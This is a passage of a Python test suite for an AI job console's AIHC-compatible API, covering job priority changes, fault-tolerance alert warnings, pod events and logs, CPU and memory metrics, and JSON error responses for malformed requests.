    assert (mistyped_stop.status, mistyped_stop.code) == (404, "ResourcePoolNotFound")
    assert (elsewhere.status, elsewhere.code) == (404, "JobNotFound")  # local is offered
    assert (not_bobs.status, not_bobs.code) == (404, "ResourcePoolNotFound")  # Alice's job only
    assert bobs_api.list_jobs(pool="local") == []  # an offered pool without jobs: none listed
    assert Job.objects.get(public_id=on_aihc).status == JobStatus.QUEUED
    assert not Job.objects.get(public_id=on_aihc).events.filter(reason="StopRequested").exists()


# -- priority -----------------------------------------------------------------------------------


def set_priority(api: AihcClient, job_id: str, priority, pool: str = "local") -> dict:
    return api.request(
        "PUT",
        f"/api/v1/aijobs/{job_id}",
        params=[("resourcePoolId", pool)],
        body={"priority": priority},
        idempotent=False,
    )


def test_a_queued_local_job_raised_to_high_priority_starts_before_one_queued_earlier(
    api, alice, settings
):
    blocker = api.create_job(pool="local", body=card_body("blocker", cards=2))["jobId"]
    worker = Worker()
    run_until(worker, lambda: Job.objects.get(public_id=blocker).status == JobStatus.RUNNING)
    first = api.create_job(
        pool="local", body=card_body("first", cards=2, command="true", queued=True)
    )["jobId"]
    later = api.create_job(
        pool="local", body=card_body("later", cards=2, command="true", queued=True)
    )["jobId"]

    answer = set_priority(api, later, "high")

    assert answer["result"] == {"jobId": later}
    raised = Job.objects.get(public_id=later)
    assert raised.priority == "high" and raised.job_spec().priority == "high"
    event = raised.events.get(reason="PriorityChanged")
    assert event.actor == alice
    with translation.override("en"):
        assert event.message_shown == "Priority changed from Normal to High by alice."
    assert api.get_job(pool="local", job_id=later)["jobId"] == later
    assert get(api, f"/api/v1/aijobs/{later}", resourcePoolId="local")["priority"] == "high"
    open_gate(settings)
    done = (JobStatus.SUCCEEDED,)
    run_until(
        worker,
        lambda: all(Job.objects.get(public_id=j).status in done for j in (first, later)),
        what="both jobs to run",
    )
    started = {j: Job.objects.get(public_id=j).started_at for j in (first, later)}
    assert started[later] < started[first]


def test_a_started_job_keeps_its_priority_and_the_script_is_told_why(api):
    created = api.create_job(pool="local", body=body(command=UNTIL_THE_GATE_OPENS))
    job = Job.objects.get(public_id=created["jobId"])
    run_until(Worker(), lambda: status_of(job) == JobStatus.RUNNING, what="the job to run")

    error = refused(lambda: set_priority(api, job.public_id, "high"))

    assert (error.status, error.code) == (409, "Conflict")
    assert "started or ended" in error.message
    job.refresh_from_db()
    assert job.priority == "normal"
    assert not job.events.filter(reason="PriorityChanged").exists()


def aihc_body(name: str = "on-aihc") -> dict:
    return {
        "name": name,
        "queue": "default",
        "jobFramework": "PyTorchJob",
        "jobSpec": {
            "command": "echo hi",
            "image": "python:3.12",
            "replicas": 1,
            "resources": [{"name": A800, "quantity": 1}],
        },
    }


# left53: AIHC takes “Job restarted by fault tolerance” (jobFT) without fault tolerance, and is the one
# to send it, so the console takes it too and says beside the answer that it never comes.
FT_ALERT_NEVER_COMES = (
    "alertConfig.alertItems: AIHC sends “Job restarted by fault tolerance” when its fault tolerance "
    "restarts the job, and this job has fault tolerance off: the alert is taken but never "
    "comes. Turn fault tolerance on in step 5 (Fault tolerance & diagnostics; faultTolerance "
    "in a request; PyTorch only), or leave this event out."
)
AIHC_ALERTS = {"instanceId": "prom-1", "notifyRuleId": "notify-1"}


def aihc_create_answer(api: AihcClient, job_body: dict) -> dict:
    """A v1 create's whole answer on the AIHC pool: its result and any warnings beside it
    (api.create_job returns the result alone)."""
    return api.request(
        "POST",
        "/api/v1/aijobs",
        params=[("resourcePoolId", "cce-pool1")],
        body=job_body,
        idempotent=False,
    )


def test_an_aihc_create_alerting_on_fault_tolerance_without_it_is_taken_with_a_warning(api, fake):
    job_body = {**aihc_body(), "alertConfig": {"alertItems": ["jobFailed", "jobFT"], **AIHC_ALERTS}}

    answer = aihc_create_answer(api, job_body)

    assert answer["warnings"] == [
        {
            "code": "AlertNeverSent",
            "message": FT_ALERT_NEVER_COMES,
            "fields": ["alertConfig.alertItems"],
        }
    ]
    job = Job.objects.get(public_id=answer["result"]["jobId"])
    assert job.job_spec().alert.items == ["jobFailed", "jobFT"]  # kept as sent


def test_an_aihc_mpi_create_alerting_on_fault_tolerance_is_told_to_leave_it_out_not_to_turn_it_on(
    api, fake
):
    # Fault tolerance is PyTorch's only: told to turn it on, an MPI job would be refused.
    job_body = {
        **aihc_body(),
        "jobFramework": "MPIJob",
        "alertConfig": {"alertItems": ["jobFT"], **AIHC_ALERTS},
    }

    answer = aihc_create_answer(api, job_body)

    assert answer["warnings"] == [
        {
            "code": "AlertNeverSent",
            "message": (
                "alertConfig.alertItems: AIHC sends “Job restarted by fault tolerance” when its fault "
                "tolerance restarts the job, and fault tolerance is for PyTorch jobs only: on "
                "this job the alert is taken but never comes. Leave this event out."
            ),
            "fields": ["alertConfig.alertItems"],
        }
    ]


def test_an_aihc_create_alerting_on_fault_tolerance_with_it_on_answers_as_aihc_does(api, fake):
    job_body = {
        **aihc_body(),
        "faultTolerance": True,
        "alertConfig": {"alertItems": ["jobFT"], **AIHC_ALERTS},
    }

    answer = aihc_create_answer(api, job_body)

    assert "warnings" not in answer
    assert Job.objects.get(public_id=answer["result"]["jobId"]).job_spec().fault_tolerance


def test_an_aihc_jobs_priority_changes_while_it_waits_for_review_and_not_once_queued(
    api, fake, settings
):
    settings.REVIEW_POLICY = "all"
    waiting = api.create_job(pool="cce-pool1", body=aihc_body())["jobId"]
    settings.REVIEW_POLICY = "none"
    queued = api.create_job(pool="cce-pool1", body=aihc_body("queued"))["jobId"]

    set_priority(api, waiting, "low", pool="cce-pool1")
    error = refused(lambda: set_priority(api, queued, "high", pool="cce-pool1"))

    assert Job.objects.get(public_id=waiting).priority == "low"
    assert (error.status, error.code) == (409, "Conflict")
    assert "keeps the priority it was sent with" in error.message
    assert Job.objects.get(public_id=queued).priority == "normal"


def test_a_priority_that_is_not_one_or_a_body_that_is_not_an_object_is_refused(
    api, wsgi, alice_key
):
    created = api.create_job(pool="local", body=body())["jobId"]

    for priority in ("urgent", None, 3):
        error = refused(lambda p=priority: set_priority(api, created, p))
        assert (error.status, error.code) == (400, "InvalidParameter"), priority
    listed = refused(
        lambda: api.request(
            "PUT",
            f"/api/v1/aijobs/{created}",
            params=[("resourcePoolId", "local")],
            body=["high"],
            idempotent=False,
        )
    )
    assert listed.code == "InvalidParameter"
    assert Job.objects.get(public_id=created).priority == "normal"


# -- pod events ---------------------------------------------------------------------------------


def test_pod_events_say_where_the_pod_started_and_how_it_ended(api):
    created = api.create_job(pool="local", body=body(command="exit 3"))
    job = Job.objects.get(public_id=created["jobId"])
    run_until(Worker(), lambda: status_of(job) == JobStatus.FAILED, what="the job to fail")

    events = get(
        api,
        f"/api/v1/aijobs/{job.public_id}/pods/from-a-script-master-0/events",
        resourcePoolId="local",
    )
    by_label = get(
        api, f"/api/v1/aijobs/{job.public_id}/pods/master-0/events", resourcePoolId="local"
    )

    assert by_label == events
    assert events["total"] == 2
    started, ended = events["events"]
    assert (started["reason"], started["type"]) == ("Started", "Normal")
    assert (ended["reason"], ended["type"]) == ("Failed", "Warning")
    assert started["message"] == f"Started on node {job.replicas.get().node}."
    assert ended["message"] == "Exited with code 3."
    assert started["firstTimestamp"] <= ended["firstTimestamp"]
    missing = refused(
        lambda: get(
            api, f"/api/v1/aijobs/{job.public_id}/pods/worker-9/events", resourcePoolId="local"
        )
    )
    assert (missing.status, missing.code) == (404, "PodNotFound")


def test_v1_job_nodes_events_and_logs_take_what_aihcs_v1_paths_take(api):
    # Found driving Baidu's SDK (tests/test_api_bce_sdk.py): the events' startTime/endTime
    # and the logs' startTime were ignored, answering everything; the nodes path was 404.
    created = api.create_job(pool="local", body=body(command="echo from v1"))
    job = Job.objects.get(public_id=created["jobId"])
    assert get(api, f"/api/v1/aijobs/{job.public_id}/nodes", resourcePoolId="local") == {
        "jobID": job.public_id,
        "nodeName": [],
    }
    run_until(Worker(), lambda: status_of(job) == JobStatus.SUCCEEDED, what="the job to end")
    job.events.filter(reason="Created").update(created_at=timezone.now() - timedelta(hours=1))
    since = int(time.time()) - 600
    pod = f"/api/v1/aijobs/{job.public_id}/pods/master-0"

    nodes = get(api, f"/api/v1/aijobs/{job.public_id}/nodes", resourcePoolId="local")
    recent = get(
        api, f"/api/v1/aijobs/{job.public_id}/events", resourcePoolId="local", startTime=since
    )
    pod_early = get(api, f"{pod}/events", resourcePoolId="local", endTime=since)
    later = get(api, f"{pod}/logs", resourcePoolId="local", startTime=int(time.time()) + 3600)
    end_time = refused(lambda: get(api, f"{pod}/logs", resourcePoolId="local", endTime=since))

    assert nodes["nodeName"] == [job.replicas.get().node]
    assert [e["reason"] for e in recent["events"]] == ["Started", "Succeeded"]
    assert pod_early == {"events": [], "total": 0}
    assert later["logs"] == []
    assert (end_time.status, end_time.code) == (400, "InvalidParameter")
    assert any(
        "from v1" in line for line in get(api, f"{pod}/logs", resourcePoolId="local")["logs"]
    )


def test_a_job_with_more_events_than_an_answer_holds_answers_its_newest_and_counts_them_all(
    api, alice
):
    from jobs.api_views import EVENTS_ANSWERED

    from .test_scale import with_many_events

    [job] = jobs_submit(owner=alice, spec=make_spec("echo hi"), submit_key=str(uuid.uuid4()))
    own = job.events.count()  # Created, Queued
    with_many_events(job, EVENTS_ANSWERED + 20)  # step-0000.., a second apart, after those
    path = f"/api/v1/aijobs/{job.public_id}/events"

    def second_of(message: str) -> int:
        return int(job.events.get(message=message).created_at.timestamp())

    every = api.request("GET", path, params=[("resourcePoolId", "local")], idempotent=True)
    earlier = get(api, path, resourcePoolId="local", endTime=second_of("step-0020"))
    a_range = get(
        api,
        path,
        resourcePoolId="local",
        startTime=second_of("step-0500"),
        endTime=second_of("step-0599"),
    )

    answered = every["result"]["events"]
    # The newest of them, oldest first; total counts every one, so a client sees more exist.
    assert len(answered) == EVENTS_ANSWERED
    assert every["result"]["total"] == own + EVENTS_ANSWERED + 20
    assert answered[0]["message"] == "step-0020"
    assert answered[-1]["message"] == f"step-{EVENTS_ANSWERED + 19:04d}"
    assert [e["firstTimestamp"] for e in answered] == sorted(e["firstTimestamp"] for e in answered)
    assert len(json.dumps(every)) < 200 * 1024
    # The earlier ones, with endTime at the oldest answered event's second (which comes again).
    assert earlier["total"] == own + 21 == len(earlier["events"])
    assert [e["message"] for e in earlier["events"][own:]] == [f"step-{i:04d}" for i in range(21)]
    assert a_range["total"] == 100 == len(a_range["events"])
    assert a_range["events"][0]["message"] == "step-0500"
    assert a_range["events"][-1]["message"] == "step-0599"


def test_a_script_reading_a_jobs_events_backwards_gets_each_once_though_seconds_hold_many(
    api, alice
):
    # Review 18c: an answer's newest 1,000 could end inside a second, so the client asked for
    # that second again and got its events twice (an answer has no ids to tell a repeat from
    # an event that happened twice), and a second of more than 1,000 answered the same for ever.
    from jobs.api_views import EVENTS_ANSWERED
    from jobs.models import JobEvent

    [job] = jobs_submit(owner=alice, spec=make_spec("echo hi"), submit_key=str(uuid.uuid4()))
    own = job.events.count()  # Created, Queued: a minute before the others
    base = timezone.now().replace(microsecond=0) + timedelta(minutes=1)
    sizes = {0: 600, 1: 900, 2: EVENTS_ANSWERED + 200}  # second -> events in it
    made = JobEvent.objects.bulk_create(
        [
            JobEvent(job=job, reason="Restarted", message=f"s{second}-{i:04d}")
            for second, n in sizes.items()
            for i in range(n)
        ]
    )
    for event in made:  # created_at is auto_now_add: set after, in order within the second
        second, i = event.message[1:].split("-")
        event.created_at = base + timedelta(seconds=int(second), microseconds=int(i))
    JobEvent.objects.bulk_update(made, ["created_at"])
    path = f"/api/v1/aijobs/{job.public_id}/events"

    read: list[str] = []
    answers = []
    end = None
    for _ in range(10):  # a client following the README: endTime one second before the oldest
        params = {"resourcePoolId": "local"} | ({"endTime": end} if end is not None else {})
        answer = get(api, path, **params)
        answers.append(answer)
        read = [e["message"] for e in answer["events"]] + read
        if len(answer["events"]) == answer["total"]:
            break
        oldest = answer["events"][0]["firstTimestamp"]
        end = int(datetime.fromisoformat(oldest).timestamp()) - 1

    # The over-full second: its newest 1,000 (the rest of it is not read); then whole seconds.
    assert [len(a["events"]) for a in answers] == [EVENTS_ANSWERED, 900, own + 600]
    assert answers[0]["events"][0]["message"] == "s2-0200"
    expected = (
        [f"s0-{i:04d}" for i in range(600)]
        + [f"s1-{i:04d}" for i in range(900)]
        + [f"s2-{i:04d}" for i in range(200, EVENTS_ANSWERED + 200)]
    )
    assert read[own:] == expected  # each once, in order


def test_a_pods_log_lines_are_stamped_in_utc_with_its_z_as_every_time_the_api_answers(
    api, settings
):
    # qa97: stamped in TIME_ZONE (Asia/Shanghai) without an offset, read by a script as UTC.
    settings.TIME_ZONE = "Asia/Shanghai"
    created = api.create_job(pool="local", body=body(command="echo from v1"))
    job = Job.objects.get(public_id=created["jobId"])
    run_until(Worker(), lambda: status_of(job) == JobStatus.SUCCEEDED, what="the job to end")
    log_file = get_backend("local").log_file(job, "master-0")
    written = log_file.read_text().splitlines()

    lines = get(api, f"/api/v1/aijobs/{job.public_id}/pods/master-0/logs", resourcePoolId="local")
    said = [line for line in lines["logs"] if line.endswith(" from v1")]

    [from_file] = [line for line in written if line.endswith(" from v1")]
    stamp = from_file.split(" ", 1)[0]  # 2026-12-07T06:30:37.471234Z, as the shim writes it
    assert said == [f"{stamp[:23]}Z from v1"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z from v1", said[0])


def test_v1s_web_terminal_path_is_refused_with_the_reason_as_v2s_action_is(api, wsgi, bob):
    # Review 18b: v2's DescribeJobWebterminal said the console has no web terminal; v1's
    # path (AIHC's Go SDK) still answered the generic 404 "not served".
    job = api.create_job(pool="local", body=body())["jobId"]
    path = f"/api/v1/aijobs/{job}/pods/from-a-script-master-0/webterminal"

    error = refused(lambda: get(api, path, resourcePoolId="local"))
    key, secret = api_key_create(owner=bob)
    bobs = client_for(wsgi, key.access_key_id, secret)
    others = refused(lambda: get(bobs, path, resourcePoolId="local"))

    assert (error.status, error.code) == (400, "NotSupported")
    assert "no web terminal" in error.message and "DescribeJobLogs" in error.message
    assert (others.status, others.code) == (404, "JobNotFound")


# -- job metrics ------------------------------------------------------------------------------

# Busy until it has used a CPU second of its own (however long a loaded machine takes to give
# it one: local jobs get a tenth of the console's CPU weight), which it writes to `spun`; then
# idle until the test opens the gate.
SPIN = (
    "import os, time\n"
    "while time.process_time() < 1: sum(range(10000))\n"
    "open('/workspace/spun', 'w').write(str(time.process_time()))\n"
    "while not os.path.exists('/workspace/gate-open'): time.sleep(0.05)"
)


def metrics(api: AihcClient, job_id: str, pool: str = "local", **params) -> list[dict]:
    found = get(api, f"/api/v1/aijobs/{job_id}/metrics", resourcePoolId=pool, **params)
    assert found["jobId"] == job_id
    return found["podMetrics"]


def test_a_busy_local_jobs_cpu_and_memory_read_as_its_pods_metrics_while_and_after_it_runs(
    api, settings
):
    settings.LOCAL_METRICS_SECONDS = 0.3
    command = f'/usr/bin/python3 -c "{SPIN}"'
    created = api.create_job(pool="local", body=body(command=command))
    job = Job.objects.get(public_id=created["jobId"])
    worker = Worker()
    usage = replica_state_dir(job.public_id, 1, "master-0") / "usage"
    spun = volume(settings) / "spun"

    def seconds_sampled() -> int:
        return len({int(sample["t"]) for sample in read_usage(usage)})

    run_until(worker, spun.exists, timeout=120, what="the job's CPU second")
    # Samples appended from now on were taken after the busy second: they count all of it.
    taken = len(read_usage(usage))
    run_until(
        worker,
        lambda: len(read_usage(usage)) >= taken + 2 and seconds_sampled() >= 4,
        what="samples after the busy second, over four seconds",
    )
    [cpu] = metrics(api, job.public_id, metricType="CpuUsage", timeStep=1)
    [memory] = metrics(api, job.public_id, metricType="MemoryUsage", timeStep="1s")
    open_gate(settings)
    run_until(worker, lambda: status_of(job) == JobStatus.SUCCEEDED, what="the end")
    [after] = metrics(api, job.public_id, metricType="CpuUsage", timeStep=1)
    [later] = metrics(api, job.public_id, metricType="CpuUsage", startTime=time.time() + 60)

    assert cpu["podName"] == memory["podName"] == "from-a-script-master-0"
    # At most one busy core.
    assert len(cpu["metrics"]) >= 4
    assert all(0 <= point["value"] < 1.3 for point in cpu["metrics"])
    # Each second's figure, over the time its samples span, adds up to the CPU time the job
    # used (its own count, and a little more: its interpreter's start, the sandbox's), however
    # little of a core a loaded machine gave it each second.
    spans: dict[int, float] = {}
    for sample in read_usage(usage):
        spans[int(sample["t"])] = spans.get(int(sample["t"]), 0) + sample["s"]
    used = float(spun.read_text())
    counted = sum(point["value"] * spans[point["time"]] for point in after["metrics"])
    assert used * 0.95 < counted < used + 0.5, (used, counted)
    assert all(0 < point["value"] < 200 * 1024**2 for point in memory["metrics"])
    times = [point["time"] for point in cpu["metrics"]]
    assert times == sorted(set(times)) and all(isinstance(t, int) for t in times)
    # The replica has ended and its history stays (the last second read may have grown);
    # a span after its end has nothing.
    assert after["metrics"][: len(times) - 1] == cpu["metrics"][:-1]
    assert later == {"podName": "from-a-script-master-0", "metrics": []}


def job_with_usage(owner, samples: list[dict]) -> Job:
    """A local job of two replicas; master-0's shim wrote `samples`, worker-0 none yet."""
    [job] = jobs_submit(
        owner=owner,
        spec=make_spec("echo hi", roles=[S.Role("master", 1), S.Role("worker", 1)]),
        submit_key=str(uuid.uuid4()),
    )
    LocalRun.objects.create(job=job, attempt=1)
    JobReplica.objects.create(job=job, role="master", index=0, status="running")
    JobReplica.objects.create(job=job, role="worker", index=0, status="running")
    state = replica_state_dir(job.public_id, 1, "master-0")
    state.mkdir(parents=True)
    log = UsageLog(state / "usage")
    for sample in samples:
        log.append(sample)
    return job


START = 1_800_000_000  # a multiple of 60 and of 120: steps start on the minute


def every_15_seconds(minutes: int) -> list[dict]:
    """Four samples a minute, 5 s past each quarter: CPU alternating 0 and 2 cores, memory
    1 GiB but 3 GiB once in the second minute, /tmp growing by 1 MiB a sample."""
    return [
        {
            "t": START + 15 * n + 5.0,
            "s": 15.0,
            "cpu": 2.0 * (n % 2),
            "mem": (3 if n == 6 else 1) * 1024**3,
            "tmp": (n + 1) * 1024**2,
        }
        for n in range(4 * minutes)
    ]


def test_metrics_average_cpu_and_keep_peaks_per_time_step_within_the_span_asked(api, alice):
    job = job_with_usage(alice, every_15_seconds(4))

    cpu = metrics(api, job.public_id, metricType="CpuUsage", timeStep=60)
    memory = metrics(api, job.public_id, metricType="MemoryUsage", timeStep="1m")
    tmp = metrics(
        api,
        job.public_id,
        metricType="TmpUsage",
        timeStep=120,
        startTime=START + 60,
        endTime=START + 170,
    )
    raw = metrics(api, job.public_id, metricType="CpuUsage", timeStep=1, endTime=START + 35)

    minutes = [START, START + 60, START + 120, START + 180]
    assert [pod["podName"] for pod in cpu] == ["local-test-master-0", "local-test-worker-0"]
    assert cpu[0]["metrics"] == [{"time": t, "value": 1.0} for t in minutes]
    assert cpu[1]["metrics"] == []  # not sampled yet
    assert memory[0]["metrics"] == [
        {"time": t, "value": (3 if t == START + 60 else 1) * 1024**3} for t in minutes
    ]
    # From 60 s to 170 s: samples 4 to 11, each at its peak in the 120 s step it falls in.
    assert tmp[0]["metrics"] == [
        {"time": START, "value": 8 * 1024**2},
        {"time": START + 120, "value": 12 * 1024**2},
    ]
    assert raw[0]["metrics"] == [
        {"time": START + 5, "value": 0.0},
        {"time": START + 20, "value": 2.0},
        {"time": START + 35, "value": 0.0},
    ]


def test_bad_metrics_parameters_are_refused_in_bces_shape_naming_the_parameter(api, alice):
    job = job_with_usage(alice, every_15_seconds(1))

    for params, named in (
        ({"metricType": ""}, "metricType is required"),
        ({"metricType": "GpuUsage"}, "metricType is one of: CpuUsage, MemoryUsage, TmpUsage"),
        ({"startTime": "yesterday"}, "startTime is a time in unix seconds"),
        ({"endTime": "-5"}, "endTime is a time in unix seconds"),
        ({"startTime": "nan"}, "startTime is a time in unix seconds"),
        ({"startTime": START + 60, "endTime": START}, "endTime is before startTime"),
        ({"timeStep": 0}, "timeStep is a number of seconds from 1 to"),
        ({"timeStep": "5x"}, "timeStep is a number of seconds from 1 to"),
        ({"rateInterval": "soon"}, "rateInterval is a number of seconds from 1 to"),
    ):
        query = {"metricType": "CpuUsage", **params}
        error = refused(lambda q=query: metrics(api, job.public_id, **q))
        assert (error.status, error.code) == (400, "InvalidParameter"), params
        assert named in error.message, error.message


def test_another_users_job_has_no_metrics_for_them_and_an_aihc_jobs_tmp_is_not_supported(
    api, wsgi, alice, bob, fake
):
    job = job_with_usage(alice, every_15_seconds(1))
    on_aihc = api.create_job(pool="cce-pool1", body=aihc_body())["jobId"]
    key, secret = api_key_create(owner=bob)
    other = client_for(wsgi, key.access_key_id, secret)

    error = refused(lambda: metrics(other, job.public_id, metricType="CpuUsage"))
    not_here = refused(lambda: metrics(api, on_aihc, pool="cce-pool1", metricType="TmpUsage"))
    # Not yet running on AIHC: no sample yet (tests/test_aihc_usage.py has one that runs).
    cpu = metrics(api, on_aihc, pool="cce-pool1", metricType="CpuUsage")

    assert (error.status, error.code) == (404, "JobNotFound")
    assert job.public_id in error.message and "local-test" not in error.message
    assert (not_here.status, not_here.code) == (400, "NotSupported")
    assert "TmpUsage is measured on the local runner only" in not_here.message
    assert all(pod["metrics"] == [] for pod in cpu)


def test_cpu_out_of_range_in_a_one_replica_body_is_said_once_under_jobspec_resources(api):
    # Found in QA: the master's and the 0-instance worker role's CPU both read from
    # jobSpec.resources, so the message came twice under the same path.
    bad = body()
    bad["jobSpec"]["resources"] = [{"name": "cpu", "quantity": -3}]

    error = refused(lambda: api.create_job(pool="local", body=bad))

    assert error.code == "InvalidParameter"
    assert error.message == "jobSpec.resources: CPU cores must be between 1 and 1024."
    assert Job.objects.count() == 0


def test_a_body_listing_more_alert_channels_or_labels_than_a_job_may_have_is_refused(api):
    """Each alert is one mail from the console's sender to every address and a request per
    webhook: 3,000 of each made the console a mail relay and held the alert queue."""
    many = body(alertConfig={"alertItems": ["jobFailed"]})
    many["console"] = {
        "alertChannels": {
            "emails": [f"user{i}@example.com" for i in range(21)],
            "webhooks": [f"https://hook{i}.example.com/x" for i in range(11)],
        }
    }
    many["labels"] = [{"key": f"k{i}", "value": "v"} for i in range(51)]

    error = refused(lambda: api.create_job(pool="local", body=many))

    assert error.code == "InvalidParameter"
    assert "console.alertChannels.emails: A job alerts at most 20 email addresses" in error.message
    assert "console.alertChannels.webhooks: A job alerts at most 10 webhooks" in error.message
    assert "labels: A job has at most 50 labels; this one has 51." in error.message
    assert Job.objects.count() == 0


def test_an_api_call_by_a_host_not_in_allowed_hosts_gets_a_json_error_naming_the_setting(db):
    # Found in QA: a script pointed at the console by its IP address got the HTML page
    # meant for a person, which its SDK could not read. Through the real handler: Django
    # raises DisallowedHost inside request.get_host(), before any view.
    client = Client()
    v1 = client.get("/api/v1/aijobs", HTTP_HOST="192.0.2.2:8000")
    v2 = client.post(
        "/?action=DescribeJobs",
        HTTP_HOST="192.0.2.2:8000",
        HTTP_AUTHORIZATION="bce-auth-v1/AKID/2026-12-01T00:00:00Z/1800/host/x",
        HTTP_ACCEPT_LANGUAGE="zh-CN",
    )
    versioned = client.get("/?action=DescribeJobs", HTTP_HOST="<b>x</b>", HTTP_X_API_VERSION="v2")

    for r in (v1, v2, versioned):
        assert r.status_code == 400 and r["Content-Type"] == "application/json"
        answer = r.json()
        assert set(answer) == {"requestId", "code", "message"}
        assert answer["code"] == "InvalidHost" and "ALLOWED_HOSTS" in answer["message"]
        assert r["x-bce-request-id"] == answer["requestId"]
    assert "“192.0.2.2:8000”" in v1.json()["message"] and "answers only" in v1.json()["message"]
    # In the language the API answers in.
    assert "控制台不应答" in v2.json()["message"] and "“192.0.2.2:8000”" in v2.json()["message"]
    assert "“<b>x</b>”" in versioned.json()["message"]


def test_a_browser_by_a_host_not_in_allowed_hosts_still_gets_the_page_even_for_an_action(db):
    # A pasted `/?action=…` address, unsigned, is the job list page's, so its refusal is the
    # page too.
    r = Client().get("/?action=DescribeJobs", HTTP_HOST="192.0.2.2:8000")

    assert r.status_code == 400 and r["Content-Type"].startswith("text/html")
    assert "此地址不能访问控制台" in r.content.decode()


def test_an_api_call_django_refuses_for_too_many_fields_gets_a_json_error_too(api, settings):
    # A signed call whose query Django will not read (over DATA_UPLOAD_MAX_NUMBER_FIELDS):
    # refused by Django's 400 handler, in the API's shape rather than the page about forms.
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 5
    params = {f"p{n}": "1" for n in range(10)}

    error = refused(lambda: get(api, "/api/v1/aijobs", **params))

    assert (error.status, error.code) == (400, "InvalidHTTPRequest")
    assert "too many parameters" in error.message


def test_a_long_secret_env_name_that_names_no_env_is_quoted_cut(api):
    typo = body(console={"secretEnvs": ["T" * 5000]})

    error = refused(lambda: api.create_job(pool="local", body=typo))

    assert error.message.startswith(f"console.secretEnvs[0]: “{'T' * 64}…” is not the name")
    assert Job.objects.count() == 0


def test_malformed_json_says_where_the_reader_stopped_and_a_content_type_that_is_not_json(
    wsgi, alice_key
):
    # qa97: "not well-formed" alone, for a comma missing on line 3 of a long body.
    key, secret = alice_key
    content = b'{\n  "name": "x",\n  "queue": "default"\n  "jobSpec": {}\n}'
    form = b"name=x&queue=default"
    names = ["host", "x-bce-date"]

    as_json = signed_post(wsgi, key, secret, content, names=names)
    as_form = signed_post(
        wsgi,
        key,
        secret,
        form,
        names=names,
        **{"Content-Type": "application/x-www-form-urlencoded"},
    )

    assert (as_json.status_code, as_json.json()["code"]) == (400, "MalformedJSON")
    assert as_json.json()["message"] == (
        "The JSON you provided was not well-formed: Expecting ',' delimiter at line 4, column 3."
    )
    assert (as_form.status_code, as_form.json()["code"]) == (400, "MalformedJSON")
    assert as_form.json()["message"] == (
        "The JSON you provided was not well-formed: Expecting value at line 1, column 1. The "
        "request's Content-Type is application/x-www-form-urlencoded, not application/json: "
        "send the body as JSON."
    )
    assert not Job.objects.exists()


def test_a_gzip_or_byte_order_marked_body_is_refused_saying_so_not_as_bad_json(wsgi, alice_key):
    """QA 57: both were "The JSON you provided was not well-formed.", which sent the script's
    author looking for a mistake in JSON that had none."""
    key, secret = alice_key
    content = json.dumps(body()).encode()
    names = ["host", "x-bce-date"]

    gzipped = signed_post(
        wsgi, key, secret, gzip.compress(content), names=names, **{"Content-Encoding": "gzip"}
    )
    marked = signed_post(wsgi, key, secret, b"\xef\xbb\xbf" + content, names=names)

    assert (gzipped.status_code, gzipped.json()["code"]) == (400, "MalformedJSON")
    assert gzipped.json()["message"] == (
        "The body is sent with Content-Encoding gzip, which the console does not read: send "
        "the JSON uncompressed."
    )
    assert (marked.status_code, marked.json()["code"]) == (400, "MalformedJSON")
    assert "byte order mark" in marked.json()["message"]
    assert not Job.objects.exists()
    plain = signed_post(wsgi, key, secret, content, names=names, **{"Content-Encoding": "identity"})
    assert plain.status_code == 200, plain.text
